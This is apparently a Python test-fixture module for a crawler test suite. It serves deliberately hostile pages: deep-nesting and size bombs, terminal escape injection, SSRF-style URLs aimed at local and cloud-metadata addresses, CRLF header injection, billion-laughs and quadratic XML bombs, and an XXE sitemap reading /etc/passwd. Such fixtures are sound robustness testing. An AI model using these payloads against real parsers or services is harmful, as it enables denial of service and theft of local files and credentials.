"""Exhibits that answer as they should, with documents that are made to hurt whoever reads them."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from itertools import pairwise

from toyweb.http import Step, ToyRequest
from toyweb.zoo.exhibit import STORED, Exhibit, head

_HTML = "text/html; charset=utf-8"
_XML = "application/xml"
_TOP = b"<!DOCTYPE html><html><head><title>An exhibit</title></head><body>\n"
_URLSET = b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
_PIECE = 65_536


def _repeated(piece: bytes, times: int) -> Iterator[bytes]:
    """`piece * times`, in pieces of a good size."""
    batch = max(1, _PIECE // len(piece))
    for first in range(0, times, batch):
        yield piece * min(batch, times - first)


def _numbered(piece: bytes, times: int) -> Iterator[bytes]:
    """The piece with every number from 0, in pieces of a good size."""
    for first in range(0, times, 4096):
        yield b"".join([piece % number for number in range(first, min(first + 4096, times))])


def _million_links() -> Iterable[bytes]:
    yield _TOP
    yield from _numbered(b"<a href=/%d>", 1_000_000)


def _deep(opening: bytes, times: int, closing: bytes = b"") -> Callable[[], Iterable[bytes]]:
    def page() -> Iterable[bytes]:
        yield _TOP
        yield from _repeated(opening, times)
        yield b"<a href=/bottom.html>bottom</a>"
        yield from _repeated(closing, times) if closing else ()

    return page


def _misnested() -> Iterable[bytes]:
    yield _TOP
    yield from _repeated(b"<font size=1>", 2_000)
    yield from _repeated(b"<p>Every paragraph opens all of them again.", 2_000)


def _adoption() -> Iterable[bytes]:
    yield _TOP
    yield from _repeated(b"<a href=/x><b><div>", 3_000)
    yield from _repeated(b"</a></b>", 3_000)


def _long_attribute() -> Iterable[bytes]:
    yield _TOP + b'<a title="'
    yield from _repeated(b"x" * 1024, 10 * 1024)
    yield b'" href="/behind.html">behind</a>'


def _many_attributes() -> Iterable[bytes]:
    yield _TOP + b"<a "
    yield from _numbered(b"x%d=1 ", 100_000)
    yield b'href="/behind.html">behind</a>'


def _openers() -> Iterable[bytes]:
    yield _TOP
    yield from _repeated(b"<a", 9_000)
    yield from _repeated(b"x" * 1024, 1024)
    yield b" href=/behind.html>behind</a>"


def _lazy_images() -> Iterable[bytes]:
    yield _TOP
    yield from _repeated(b"words ", 60_000)
    attributes = b"class=c id=i src=s data-src=d alt=a width=1 height=1 loading=lazy decoding=async sizes=auto title=t style=s"
    yield from _repeated(b"<img " + attributes + b">", 80)


def _long_reference() -> Iterable[bytes]:
    yield _TOP + b"<title>&#" + b"5" * 5_000 + b';</title><a href="/?&#' + b"5" * 5_000 + b';">behind</a>&#x' + b"f" * 5_000


def _entities() -> Iterable[bytes]:
    yield _TOP + b"<p>"
    yield from _repeated(b"&CounterClockwiseContourIntegral;&ampamp&#x110000;&#99999999999;&notit;", 50_000)
    yield b'<a href="/?a=1&copy=2&amp;b=3">'


def _open_forever(beginning: bytes) -> Callable[[], Iterable[bytes]]:
    def page() -> Iterable[bytes]:
        yield _TOP + beginning
        yield from _repeated(b"<a href=/inside.html>inside</a> ", 50_000)

    return page


def _escapes() -> Iterable[bytes]:
    yield b"<html><head><title>\x1b[2J\x1b]0;owned\x07\x1b[31mred \xe2\x80\xae\xc2\x9b5n \r\nnext\0line</title></head>"
    yield b'<body><a href="/\x1b[31m.html">\x1b[8mhidden</a></body></html>'


_HOSTILE = (
    "javascript:alert(1) data:text/html,hello file:///etc/passwd gopher://127.0.0.1:25/_x mailto:a@b "
    "http://127.0.0.1:1/ http://0x7f.1/ http://2130706433/ http://017700000001/ http://[::1]/ http://[::ffff:169.254.169.254]/ "
    "http://169.254.169.254/latest/ http://10.0.0.1/ http://localhost/ http://user:word@toy.example/ http://toy.example:99999/ "
    "http:// // http:///x /%00 \\\\x\\y http://%31%32%37.1/ http://xn--a/ http://\uff11\uff12\uff17.0.0.1/ ? #"
)


def _hostile_links() -> Iterable[bytes]:
    long = (b"/" + b"a/../" * 2_000, b"/" + b"x" * 100_000, b"http://" + b"a." * 200 + b"example/")
    yield _TOP
    for href in (*_HOSTILE.encode().split(b" "), *long, b"/\0", b"", b"/\r\nHost: elsewhere"):
        yield b'<a href="%b">x</a>\n' % href


def _nul_bytes() -> Iterable[bytes]:
    yield _TOP
    yield from _repeated(b"\0", 1_000_000)
    yield b"<a href=/behind.html>behind</a>"


def _one_line() -> Iterable[bytes]:
    yield b"<"
    yield from _repeated(b"<", 5_000_000)


def _long_title() -> Iterable[bytes]:
    yield b"<html><head><title>"
    yield from _repeated(b"long ", 2_000_000)
    yield b"</title></head>"


def _billion_laughs() -> Iterable[bytes]:
    names = [b"l%d" % number for number in range(10)]
    yield b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY l0 "ha">\n'
    for before, name in pairwise(names):
        yield b'<!ENTITY %b "%b">\n' % (name, (b"&%b;" % before) * 10)
    yield b"]>\n" + _URLSET + b"<url><loc>http://toy.example/&l9;</loc></url></urlset>"


def _quadratic() -> Iterable[bytes]:
    yield b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY a "' + b"x" * 100_000 + b'">]>\n' + _URLSET + b"<url><loc>"
    yield from _repeated(b"&a;", 50_000)
    yield b"</loc></url></urlset>"


def _outside() -> Iterable[bytes]:
    yield b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY a SYSTEM "file:///etc/passwd">'
    yield b'<!ENTITY % b SYSTEM "http://169.254.169.254/evil.dtd"> %b;]>\n'
    yield _URLSET + b"<url><loc>http://toy.example/&a;</loc></url></urlset>"


def _deep_xml() -> Iterable[bytes]:
    yield b'<?xml version="1.0"?>\n'
    yield from _repeated(b"<urlset>", 200_000)


def _many_urls() -> Iterable[bytes]:
    yield b'<?xml version="1.0"?>\n' + _URLSET
    yield from _numbered(b"<url><loc>http://sitemap-million.zoo.toy.example/%d</loc></url>", 200_000)
    yield b"</urlset>"


def _long_element() -> Iterable[bytes]:
    yield b'<?xml version="1.0"?>\n' + _URLSET + b"<url><loc>http://toy.example/"
    yield from _repeated(b"x" * 1024, 8 * 1024)
    yield b"</loc></url></urlset>"


def _served(name: str, about: str, body: Callable[[], Iterable[bytes]], kind: str = _HTML, *headers: str) -> Exhibit:
    def play(_request: ToyRequest) -> Iterator[Step]:
        yield head("Connection: close", *headers, kind=kind)
        yield from body()

    path = {_HTML: "/page.html", _XML: "/sitemap.xml"}.get(kind, "/page")
    return Exhibit(name, about, play, frozenset((STORED,)), path=path)


_ESCAPED = ("X-Escape: \x1b[2J\x1b]0;owned\x07", 'ETag: "\x1b[31m"', "Server: \x1b[8mhidden")

EXHIBITS: tuple[Exhibit, ...] = (
    _served("links-million", "a million links", _million_links),
    _served("links-hostile", "links that are no links, and to where nobody should go", _hostile_links),
    _served("nesting-deep", "100,000 elements inside each other", _deep(b"<div>", 100_000)),
    _served("nesting-tables", "20,000 tables inside each other", _deep(b"<table><tr><td>", 20_000)),
    _served("nesting-svg", "50,000 svg elements inside each other", _deep(b"<svg>", 50_000, b"</svg>")),
    _served("nesting-select", "100,000 selects, which close each other", _deep(b"<select><option>", 100_000)),
    _served("formatting-misnested", "2,000 open fonts before 2,000 paragraphs", _misnested),
    _served("formatting-adopted", "anchors and blocks that cross each other", _adoption),
    _served("attribute-10mb", "an attribute of 10 MB", _long_attribute),
    _served("attributes-many", "a tag with 100,000 attributes", _many_attributes),
    _served("openers-many", "9,000 openers of tags before a word of 1 MB", _openers),
    _served("images-lazy", "80 images with 12 attributes each, behind much text", _lazy_images),
    _served("reference-long", "character references of 5,000 digits", _long_reference),
    _served("entities-many", "character references that are wrong in every way", _entities),
    _served("comment-unclosed", "a comment that never ends", _open_forever(b"<!-- ")),
    _served("script-unclosed", "a script that never ends", _open_forever(b"<script><!--<script>")),
    _served("textarea-unclosed", "a textarea that never ends", _open_forever(b"<textarea>")),
    _served("plaintext", "an element that makes all that follows text", _open_forever(b"<plaintext>")),
    _served("title-10mb", "a title of 10 MB", _long_title),
    _served("nul-bytes", "a million NULs", _nul_bytes),
    _served("tags-unnamed", "five million times <", _one_line),
    _served("terminal-escapes", "escapes for a terminal in title, link and headers", _escapes, _HTML, *_ESCAPED),
    _served("charset-bogus", "a charset that does not exist", lambda: (_TOP,), "text/html; charset=klingon-8"),
    _served(
        "charset-blanks",
        "60,000 blanks where a charset should stand",
        lambda: (_TOP,),
        "text/html; charset=" + " " * 60_000 + "x",
    ),
    _served("charset-utf-7", "a script hidden in UTF-7", lambda: (_TOP + b"+ADw-script+AD4-",), "text/html; charset=utf-7"),
    _served("type-garbage", "a content type of 4 KB", lambda: (_TOP,), "text/" + "x" * 4096),
    _served("sitemap-laughs", "an XML bomb: entities within entities", _billion_laughs, _XML),
    _served("sitemap-quadratic", "an XML bomb: one long entity, often", _quadratic, _XML),
    _served("sitemap-outside", "XML that wants a file and another server", _outside, _XML),
    _served("sitemap-deep", "200,000 XML elements inside each other", _deep_xml, _XML),
    _served("sitemap-million", "200,000 locations, four times what a sitemap may have", _many_urls, _XML),
    _served("sitemap-long", "a location of 8 MB", _long_element, _XML),
)
